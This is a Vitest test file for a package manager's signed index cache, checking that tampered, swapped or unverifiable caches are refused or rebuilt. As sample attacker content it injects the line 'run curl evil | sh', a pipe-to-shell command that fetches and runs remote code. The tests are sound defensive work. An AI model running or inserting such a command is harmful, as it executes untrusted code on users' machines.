/**
 * The verified index cache (src/core/pkg/index-cache.ts): `update` keeps what it verified in a
 * form search, info and install read without parsing and validating the index again. The cache is
 * sealed with a key only this box holds; a cache that was changed on disk is never used: the
 * index beside it is verified against its signature again (and the cache rebuilt), or refused.
 */
import { readFileSync, statSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { BlueprintError } from '../../src/core/errors.js';
import { PackageManager } from '../../src/core/pkg/index.js';
import { lists, signedRepo, type TestKey, tempDir, trustingRoot, twoPackageRepo } from '../helpers/pkg.js';

let key: TestKey;
let repo: string;
beforeAll(async () => {
  ({ key, repo } = await twoPackageRepo());
});

const cacheFile = (root: string, name = 'main') => path.join(lists(root), name, 'verified.json');

/** Rewrites what the cache says, keeping it well-formed JSON (what an editor or attacker would do). */
function tamperCache(root: string, from: string, to: string) {
  const text = readFileSync(cacheFile(root), 'utf8');
  expect(text).toContain(from);
  writeFileSync(cacheFile(root), text.replaceAll(from, to));
}

describe('verified index cache', () => {
  it('update writes it; search answers from it without reading index.json again', async () => {
    const root = await trustingRoot(key, repo);
    expect(statSync(cacheFile(root)).isFile()).toBe(true);
    // index.json is no longer needed by search: a broken copy does not matter while the cache holds.
    writeFileSync(path.join(lists(root), 'main/index.json'), 'not json');
    const hits = await new PackageManager({ root }).search('good');
    expect(hits.map((h) => [h.name, h.summary])).toEqual([['good', 'the genuine summary']]);
  });

  it('the sealing key is readable by its owner only', async () => {
    const root = await trustingRoot(key, repo);
    expect(statSync(path.join(lists(root), '.cache-key')).mode & 0o777).toBe(0o600);
  });

  it('a changed cache is never used: the signed index is verified again and the cache rebuilt', async () => {
    const root = await trustingRoot(key, repo);
    tamperCache(root, 'the genuine summary', 'EVIL summary, run curl evil | sh');
    const pm = new PackageManager({ root });
    expect(await pm.search('evil')).toEqual([]);
    expect((await pm.search('good')).map((h) => h.summary)).toEqual(['the genuine summary']);
    // Rebuilt: the file now holds the genuine text again.
    expect(readFileSync(cacheFile(root), 'utf8')).not.toContain('EVIL');
    expect((await pm.info('good')).available[0]?.summary).toBe('the genuine summary');
  });

  it('a changed hash in the cache never reaches install (the plan carries the signed hash)', async () => {
    const root = await trustingRoot(key, repo);
    const signed = JSON.parse(readFileSync(path.join(repo, 'index.json'), 'utf8')) as {
      packages: { name: string; sha256: string }[];
    };
    const sha = signed.packages.find((p) => p.name === 'good')!.sha256;
    tamperCache(root, sha, 'f'.repeat(64));
    const info = await new PackageManager({ root }).info('good');
    expect(info.available[0]?.sha256).toBe(sha);
  });

  it('a changed cache beside a changed index is refused, with what to do', async () => {
    const root = await trustingRoot(key, repo);
    tamperCache(root, 'the genuine summary', 'EVIL summary');
    const indexFile = path.join(lists(root), 'main/index.json');
    writeFileSync(indexFile, readFileSync(indexFile, 'utf8').replace('the genuine summary', 'EVIL summary'));
    const err = await new PackageManager({ root }).search('evil').catch((e: unknown) => e);
    expect(err).toBeInstanceOf(BlueprintError);
    expect((err as BlueprintError).code).toBe('kept-index-unverified');
    expect((err as BlueprintError).hint).toMatch(/bpkg update/);
  });

  it("another repository's cache copied in is not taken for this one's", async () => {
    const root = await trustingRoot(key, repo);
    const { repo: second } = await signedRepo(
      [{ name: 'intruder', version: '9.0.0', summary: 'from elsewhere' }],
      key,
    );
    const pm = new PackageManager({ root });
    await pm.repos.add('second', second, { keys: [key.fingerprint] });
    expect((await pm.update()).every((o) => o.ok)).toBe(true);
    writeFileSync(cacheFile(root, 'main'), readFileSync(cacheFile(root, 'second')));
    const hits = await pm.search('');
    expect(hits.map((h) => `${h.repo}/${h.name}`).sort()).toEqual([
      'main/good',
      'main/other',
      'second/intruder',
    ]);
  });

  it('an index kept before the cache existed is verified once and then cached', async () => {
    const root = await trustingRoot(key, repo);
    const { rmSync } = await import('node:fs');
    rmSync(cacheFile(root));
    rmSync(path.join(lists(root), '.cache-key'));
    const pm = new PackageManager({ root });
    expect((await pm.search('good')).map((h) => h.name)).toEqual(['good']);
    expect(statSync(cacheFile(root)).isFile()).toBe(true);
  });

  it('an update that fetches the same bytes verifies their signature and leaves the cache as it is', async () => {
    const root = await trustingRoot(key, repo);
    const before = statSync(cacheFile(root));
    const pm = new PackageManager({ root });
    const [out] = await pm.update();
    expect(out).toMatchObject({ ok: true, changed: false, packages: 2 });
    // Not rewritten: the same file (writeFileAtomic replaces it with a new one), the same bytes.
    const after = statSync(cacheFile(root));
    expect([after.ino, after.mtimeMs]).toEqual([before.ino, before.mtimeMs]);
    expect((await pm.search('good')).map((h) => h.summary)).toEqual(['the genuine summary']);
  });

  it('an update that fetches the same bytes beside a changed cache parses the signed bytes and rebuilds it', async () => {
    const root = await trustingRoot(key, repo);
    tamperCache(root, 'the genuine summary', 'EVIL summary, run curl evil | sh');
    const pm = new PackageManager({ root });
    const [out] = await pm.update();
    expect(out).toMatchObject({ ok: true, changed: false });
    expect(readFileSync(cacheFile(root), 'utf8')).not.toContain('EVIL');
    expect(await pm.search('evil')).toEqual([]);
  });

  it('an update that fetches the same bytes still refuses them once their signature no longer verifies', async () => {
    const root = await trustingRoot(key, repo);
    // The served signature replaced by garbage: the cache from the last update must not vouch for it.
    const served = tempDir();
    const { cpSync } = await import('node:fs');
    cpSync(repo, served, { recursive: true });
    const pm = new PackageManager({ root });
    writeFileSync(path.join(served, 'index.json.asc'), 'not a signature');
    const repoFile = path.join(root, 'etc/blueprint/repos.d/main.json');
    const config = JSON.parse(readFileSync(repoFile, 'utf8')) as { url: string };
    writeFileSync(repoFile, JSON.stringify({ ...config, url: `file://${served}` }));
    const [out] = await pm.update();
    expect(out?.ok).toBe(false);
  });
});
